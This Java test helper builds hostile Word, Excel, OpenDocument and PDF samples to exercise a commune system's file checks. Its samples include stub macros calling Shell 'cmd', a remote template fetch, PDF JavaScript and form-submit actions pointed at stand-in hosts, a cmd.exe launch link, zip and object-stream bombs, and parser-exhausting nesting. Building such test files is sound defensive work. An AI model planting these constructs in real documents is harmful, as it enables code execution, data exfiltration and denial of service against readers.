package vn.congkhai.testing;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionImportData;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFRun;
import org.apache.poi.xwpf.usermodel.XWPFStyle;
import org.apache.poi.xwpf.usermodel.XWPFStyles;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyle;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STStyleType;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Enumeration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;

/**
 * Hostile files as they reach a commune: built here with the libraries that make real ones (PDFBox, POI), so that
 * the checks are tried on what Word, Excel and PDF readers would open, not on hand-written bytes.
 */
public final class HostileFiles {

    private static final String MACRO_DOCUMENT = "application/vnd.ms-word.document.macroEnabled.main+xml";
    private static final String WORD_DOCUMENT =
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    private HostileFiles() {
    }

    /**
     * A Word notice whose internal note is hidden by a character style ("Nội bộ", formatted Hidden), not by the
     * run's own formatting: Word shows the note to no one, but the file still holds it.
     */
    public static Path wordWithStyleHiddenNote(Path file) throws IOException {
        try (XWPFDocument doc = new XWPFDocument(); OutputStream out = Files.newOutputStream(file)) {
            hiddenStyle(doc, "NoiBo");
            XWPFParagraph p = doc.createParagraph();
            p.createRun().setText("Mời các hộ dự họp tại nhà văn hóa xóm.");
            XWPFRun note = p.createRun();
            note.setText(" Hộ ông Nguyễn Văn Ẩn nợ thuế, không công khai.");
            note.setStyle("NoiBo");
            doc.write(out);
        }
        return file;
    }

    /** Adds a character style {@code id} ("Nội bộ") formatted Hidden, as an officer makes one in Word. */
    public static void hiddenStyle(XWPFDocument doc, String id) {
        XWPFStyles styles = doc.createStyles();
        CTStyle internal = CTStyle.Factory.newInstance();
        internal.setStyleId(id);
        internal.setType(STStyleType.CHARACTER);
        internal.addNewName().setVal("Nội bộ");
        internal.addNewRPr().addNewVanish();
        styles.addStyle(new XWPFStyle(internal, styles));
    }

    /**
     * An OpenDocument file of type {@code mimetype} as LibreOffice lays it out (the mimetype entry first, the
     * manifest), with a Basic macro library when {@code macros}.
     */
    public static Path openDocument(Path file, String mimetype, boolean macros) throws IOException {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.putNextEntry(new ZipEntry("mimetype"));
            zip.write(mimetype.getBytes(StandardCharsets.US_ASCII));
            zip.putNextEntry(new ZipEntry("content.xml"));
            zip.write(("<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
                    + "office:version=\"1.3\"><office:body/></office:document-content>").getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("META-INF/manifest.xml"));
            zip.write(("<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\">"
                    + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"" + mimetype + "\"/>"
                    + "</manifest:manifest>").getBytes(StandardCharsets.UTF_8));
            if (macros) {
                zip.putNextEntry(new ZipEntry("Basic/Standard/Module1.xml"));
                zip.write("<script:module script:name=\"Module1\">Sub Main\nShell(\"cmd\")\nEnd Sub</script:module>"
                        .getBytes(StandardCharsets.UTF_8));
            }
        }
        return file;
    }

    /** A list of people with their ID numbers and birth dates, saved by Excel, under {@code file}'s name. */
    public static Path spreadsheet(Path file) throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook(); OutputStream out = Files.newOutputStream(file)) {
            var sheet = book.createSheet("Danh sách");
            List<List<String>> rows = List.of(List.of("Họ tên", "Số CCCD", "Ngày sinh"),
                    List.of("Nguyễn Văn An", "019075001234", "12/03/1975"));
            for (int r = 0; r < rows.size(); r++) {
                var row = sheet.createRow(r);
                for (int c = 0; c < rows.get(r).size(); c++) {
                    row.createCell(c).setCellValue(rows.get(r).get(c));
                }
            }
            book.write(out);
        }
        return file;
    }

    /** A list saved by Excel 97–2003 ({@code .xls}), under {@code file}'s name. */
    public static Path oldSpreadsheet(Path file) throws IOException {
        try (HSSFWorkbook book = new HSSFWorkbook(); OutputStream out = Files.newOutputStream(file)) {
            book.createSheet("Danh sách").createRow(0).createCell(0).setCellValue("019075001234");
            book.write(out);
        }
        return file;
    }

    /**
     * The container of a Word 97–2003 file: its WordDocument stream (a file information block whose flags say
     * whether a password encrypts it) and, with {@code macros}, the Macros storage Word keeps VBA in.
     */
    public static Path oldWord(Path file, boolean macros, boolean encrypted) throws IOException {
        byte[] fib = new byte[1472];
        fib[0] = (byte) 0xEC; // wIdent 0xA5EC, nFib 193 (Word 97)
        fib[1] = (byte) 0xA5;
        fib[2] = (byte) 0xC1;
        fib[11] = (byte) (encrypted ? 0x01 : 0x00); // fEncrypted, bit 8 of the flags at offset 10
        try (POIFSFileSystem fs = new POIFSFileSystem(); OutputStream out = Files.newOutputStream(file)) {
            fs.createDocument(new ByteArrayInputStream(fib), "WordDocument");
            fs.createDocument(new ByteArrayInputStream(new byte[4096]), "1Table");
            if (macros) {
                fs.getRoot().createDirectory("Macros").createDocument("PROJECT",
                        new ByteArrayInputStream("ID=\"{00000000}\"\r\nDocument=ThisDocument/&H00000000\r\n"
                                .getBytes(StandardCharsets.US_ASCII)));
            }
            fs.writeFilesystem(out);
        }
        return file;
    }

    /** {@code docx} as Word saves it with macros (.docm): a VBA project part and the macro-enabled content type. */
    public static Path withMacros(Path docx, Path out) throws IOException {
        Map<String, byte[]> added = new LinkedHashMap<>();
        added.put("word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nShell \"cmd\"\nEnd Sub"
                .getBytes(StandardCharsets.US_ASCII));
        return rewrite(docx, out, "[Content_Types].xml", types -> types.replace(WORD_DOCUMENT, MACRO_DOCUMENT)
                .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                        + "</Types>"), added);
    }

    /** {@code docx} with a worksheet embedded whole, as Word keeps one behind a pasted Excel table or a chart. */
    public static Path withEmbeddedWorkbook(Path docx, Path out) throws IOException {
        Path sheet = spreadsheet(Files.createTempFile(out.getParent(), "bang", ".xlsx"));
        byte[] bytes = Files.readAllBytes(sheet);
        Files.delete(sheet);
        return rewrite(docx, out, "word/document.xml", xml -> xml,
                Map.of("word/embeddings/Microsoft_Excel_Worksheet.xlsx", bytes));
    }

    /**
     * {@code docx} attached to a template on a web server (Word fetches it at every opening: the address learns who
     * reads, and a hostile template brings macros), beside an ordinary hyperlink and a picture linked on the
     * officer's own disk, which fetch nothing when the document opens elsewhere.
     */
    public static Path withRemoteTemplate(Path docx, Path out) throws IOException {
        String rels = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\""
                + "http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\""
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\""
                + "http://mau.invalid/mau.dotm\" TargetMode=\"External\"/><Relationship Id=\"rId2\" Type=\""
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\""
                + "https://dichvucong.gov.vn/\" TargetMode=\"External\"/><Relationship Id=\"rId3\" Type=\""
                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\""
                + "file:///C:/Users/VanPhong/Pictures/logo.png\" TargetMode=\"External\"/></Relationships>";
        return rewrite(docx, out, "word/document.xml", xml -> xml,
                Map.of("word/_rels/settings.xml.rels", rels.getBytes(StandardCharsets.UTF_8)));
    }

    /** {@code docx} encrypted with a password as Word does it (agile encryption in an OLE2 container). */
    public static Path encrypted(Path docx, Path out, String password) throws Exception {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
            encryptor.confirmPassword(password);
            try (OutputStream data = encryptor.getDataStream(fs)) {
                Files.copy(docx, data);
            }
            try (OutputStream file = Files.newOutputStream(out)) {
                fs.writeFilesystem(file);
            }
        }
        return out;
    }

    /** {@code docx} whose body part is padded with {@code megabytes} of zeros: a few kilobytes that unpack huge. */
    public static Path zipBomb(Path docx, Path out, int megabytes) throws IOException {
        byte[] zeros = new byte[megabytes * 1024 * 1024];
        return rewrite(docx, out, "word/document.xml", xml -> xml, Map.of("word/media/padding.bin", zeros));
    }

    /**
     * {@code docx} whose body part unpacks to {@code megabytes} of XML while the zip's directory says it holds 4 KB:
     * a bomb that lies about its size, caught only by counting what is read.
     */
    public static Path lyingZipBomb(Path docx, Path out, int megabytes) throws IOException {
        // Written a megabyte at a time: the test JVM's heap is the bake's (512 MiB), shared with the other tests.
        byte[] spaces = " ".repeat(1024 * 1024).getBytes(StandardCharsets.US_ASCII);
        try (ZipFile in = new ZipFile(docx.toFile()); ZipOutputStream zipped = new ZipOutputStream(Files.newOutputStream(out))) {
            for (Enumeration<? extends ZipEntry> e = in.entries(); e.hasMoreElements(); ) {
                ZipEntry entry = e.nextElement();
                zipped.putNextEntry(new ZipEntry(entry.getName()));
                if (entry.getName().equals("word/document.xml")) {
                    zipped.write(("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                            + "<w:body>").getBytes(StandardCharsets.US_ASCII));
                    for (int i = 0; i < megabytes; i++) {
                        zipped.write(spaces);
                    }
                    zipped.write("</w:body></w:document>".getBytes(StandardCharsets.US_ASCII));
                } else {
                    try (InputStream data = in.getInputStream(entry)) {
                        data.transferTo(zipped);
                    }
                }
                zipped.closeEntry();
            }
        }
        byte[] zip = Files.readAllBytes(out);
        byte[] name = "word/document.xml".getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i + 46 + name.length <= zip.length; i++) {
            boolean central = zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2
                    && java.util.Arrays.equals(zip, i + 46, i + 46 + name.length, name, 0, name.length);
            if (central) { // the central directory's uncompressed size, little-endian at offset 24
                zip[i + 24] = 0;
                zip[i + 25] = 0x10;
                zip[i + 26] = 0;
                zip[i + 27] = 0;
            }
        }
        Files.write(out, zip);
        return out;
    }

    /** {@code docx} whose body is tables nested {@code depth} deep, one in the only cell of the other. */
    public static Path nestedTables(Path docx, Path out, int depth) throws IOException {
        String body = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
                + "<w:tbl><w:tr><w:tc>".repeat(depth) + "<w:p/>" + "</w:tc></w:tr></w:tbl>".repeat(depth)
                + "<w:p/></w:body></w:document>";
        return rewrite(docx, out, "word/document.xml", xml -> body, Map.of());
    }

    /** {@code docx} with {@code count} more (empty) parts than any document has. */
    public static Path manyParts(Path docx, Path out, int count) throws IOException {
        Map<String, byte[]> added = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            added.put("word/media/p" + i + ".bin", new byte[0]);
        }
        return rewrite(docx, out, "word/document.xml", xml -> xml, added);
    }

    /** A one-page PDF that runs JavaScript when opened (the catalog's /OpenAction). */
    public static Path pdfWithOpenActionJavaScript(Path out) throws IOException {
        try (PDDocument pdf = new PDDocument()) {
            pdf.addPage(new PDPage(PDRectangle.A4));
            pdf.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.launchURL('http://x.invalid/', true);"));
            pdf.save(out.toFile());
        }
        return out;
    }

    /** A one-page PDF carrying a spreadsheet as an embedded file (the /EmbeddedFiles name tree). */
    public static Path pdfWithEmbeddedFile(Path out) throws IOException {
        try (PDDocument pdf = new PDDocument()) {
            pdf.addPage(new PDPage(PDRectangle.A4));
            PDEmbeddedFile file = new PDEmbeddedFile(pdf, new ByteArrayInputStream(
                    "ho_ten,cccd\nNguyễn Văn An,019075001234\n".getBytes(StandardCharsets.UTF_8)));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("danh-sach.csv");
            spec.setEmbeddedFile(file);
            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("danh-sach.csv", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(pdf.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            pdf.getDocumentCatalog().setNames(names);
            pdf.save(out.toFile());
        }
        return out;
    }

    /** A one-page PDF with two links: one launches a program, the other sends a form away. */
    public static Path pdfWithLaunchAndSubmit(Path out) throws IOException {
        PDActionLaunch launch = new PDActionLaunch();
        launch.setFile(new PDComplexFileSpecification());
        launch.getFile().setFile("cmd.exe");
        PDActionSubmitForm submit = new PDActionSubmitForm();
        submit.getCOSObject().setString("F", "http://x.invalid/thu");
        return pdfWithLinks(out, launch, submit);
    }

    /**
     * A one-page PDF whose page runs JavaScript when it is shown (the page's /AA), and whose link loads form data
     * from another file (ImportData).
     */
    public static Path pdfWithPageScriptAndImport(Path out) throws IOException {
        PDActionImportData load = new PDActionImportData();
        load.setFile(new PDComplexFileSpecification());
        load.getFile().setFile("du-lieu.fdf");
        try (PDDocument pdf = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            PDPageAdditionalActions actions = new PDPageAdditionalActions();
            actions.setO(new PDActionJavaScript("this.submitForm('http://x.invalid/');"));
            page.setActions(actions);
            pdf.addPage(page);
            PDAnnotationLink link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(50, 700, 200, 20));
            link.setAction(load);
            page.getAnnotations().add(link);
            pdf.save(out.toFile());
        }
        return out;
    }

    /** A one-page PDF form in Adobe's XFA, its script in the form's XML. */
    public static Path pdfWithXfaForm(Path out) throws IOException {
        try (PDDocument pdf = new PDDocument()) {
            pdf.addPage(new PDPage(PDRectangle.A4));
            org.apache.pdfbox.cos.COSStream xfa = pdf.getDocument().createCOSStream();
            try (OutputStream data = xfa.createOutputStream()) {
                data.write(("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event activity="
                        + "\"initialize\"><script contentType=\"application/x-javascript\">app.alert(1)</script>"
                        + "</event></subform></template></xdp:xdp>").getBytes(StandardCharsets.UTF_8));
            }
            var form = new org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm(pdf);
            form.getCOSObject().setItem(org.apache.pdfbox.cos.COSName.getPDFName("XFA"), xfa);
            pdf.getDocumentCatalog().setAcroForm(form);
            pdf.save(out.toFile());
        }
        return out;
    }

    /** A PDF of 400 KB whose catalog holds arrays nested 200,000 deep: a parser that recurses runs out of stack. */
    public static Path pdfWithDeepNesting(Path out) throws IOException {
        int depth = 200_000;
        Files.writeString(out, "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/Nest " + "[".repeat(depth)
                + "]".repeat(depth) + ">>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n"
                + "%%EOF\n", StandardCharsets.US_ASCII);
        return out;
    }

    /** A one-page PDF that opens only with a password. */
    public static Path pdfWithPassword(Path out) throws IOException {
        try (PDDocument pdf = new PDDocument()) {
            pdf.addPage(new PDPage(PDRectangle.A4));
            StandardProtectionPolicy policy = new StandardProtectionPolicy("chu", "matkhau", new AccessPermission());
            policy.setEncryptionKeyLength(128);
            pdf.protect(policy);
            pdf.save(out.toFile());
        }
        return out;
    }

    /**
     * A PDF of a few hundred kilobytes whose object stream (holding its open action) unpacks to {@code megabytes}:
     * PDFBox would unpack it whole into memory. Written by hand, as no PDF library writes one.
     */
    public static Path pdfWithObjectStreamBomb(Path out, int megabytes) throws IOException {
        java.io.ByteArrayOutputStream packed = new java.io.ByteArrayOutputStream();
        try (var zip = new java.util.zip.DeflaterOutputStream(packed)) {
            zip.write("5 0 <</S/JavaScript/JS(app.alert(1))>>".getBytes(StandardCharsets.US_ASCII));
            byte[] spaces = new byte[1024 * 1024];
            java.util.Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < megabytes; i++) {
                zip.write(spaces);
            }
        }
        java.io.ByteArrayOutputStream pdf = new java.io.ByteArrayOutputStream();
        List<Integer> offsets = new java.util.ArrayList<>();
        ascii(pdf, "%PDF-1.7\n");
        offsets.add(pdf.size());
        ascii(pdf, "1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>> endobj\n");
        offsets.add(pdf.size());
        ascii(pdf, "2 0 obj <</Type/Pages/Kids[]/Count 0>> endobj\n");
        offsets.add(pdf.size());
        ascii(pdf, "3 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + packed.size() + ">>\nstream\n");
        pdf.write(packed.toByteArray());
        ascii(pdf, "\nendstream endobj\n");
        int xref = pdf.size();
        java.io.ByteArrayOutputStream rows = new java.io.ByteArrayOutputStream();
        java.io.DataOutputStream row = new java.io.DataOutputStream(rows);
        row.writeByte(0);
        row.writeInt(0);
        row.writeShort(65535);
        for (int offset : offsets) {
            row.writeByte(1);
            row.writeInt(offset);
            row.writeShort(0);
        }
        row.writeByte(1);
        row.writeInt(xref);
        row.writeShort(0);
        row.writeByte(2); // object 5 is the first object of object stream 3
        row.writeInt(3);
        row.writeShort(0);
        ascii(pdf, "4 0 obj <</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length " + rows.size() + ">>\nstream\n");
        pdf.write(rows.toByteArray());
        ascii(pdf, "\nendstream endobj\nstartxref\n" + xref + "\n%%EOF\n");
        Files.write(out, pdf.toByteArray());
        return out;
    }

    private static void ascii(java.io.ByteArrayOutputStream out, String text) {
        out.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
    }

    private static Path pdfWithLinks(Path out, PDAction... actions) throws IOException {
        try (PDDocument pdf = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            pdf.addPage(page);
            for (PDAction action : actions) {
                PDAnnotationLink link = new PDAnnotationLink();
                link.setRectangle(new PDRectangle(50, 700, 200, 20));
                link.setAction(action);
                page.getAnnotations().add(link);
            }
            pdf.save(out.toFile());
        }
        return out;
    }

    /** A copy of the zip {@code from} with one text part changed and parts added. */
    private static Path rewrite(Path from, Path to, String part, UnaryOperator<String> change, Map<String, byte[]> added)
            throws IOException {
        try (ZipFile in = new ZipFile(from.toFile()); ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(to))) {
            for (Enumeration<? extends ZipEntry> e = in.entries(); e.hasMoreElements(); ) {
                ZipEntry entry = e.nextElement();
                byte[] bytes;
                try (InputStream data = in.getInputStream(entry)) {
                    bytes = data.readAllBytes();
                }
                if (entry.getName().equals(part)) {
                    bytes = change.apply(new String(bytes, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8);
                }
                out.putNextEntry(new ZipEntry(entry.getName()));
                out.write(bytes);
                out.closeEntry();
            }
            for (Map.Entry<String, byte[]> extra : added.entrySet()) {
                out.putNextEntry(new ZipEntry(extra.getKey()));
                out.write(extra.getValue());
                out.closeEntry();
            }
        }
        return to;
    }
}
